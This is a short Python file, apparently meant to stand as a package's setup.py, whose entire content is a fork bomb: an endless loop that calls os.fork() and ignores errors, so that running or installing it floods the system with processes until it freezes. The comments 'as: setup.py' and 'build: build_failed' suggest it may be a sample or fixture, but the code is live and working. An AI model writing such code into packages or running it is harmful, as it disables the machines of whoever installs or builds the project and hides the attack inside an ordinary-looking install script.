# Forks without end.
# as: setup.py
# build: build_failed
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
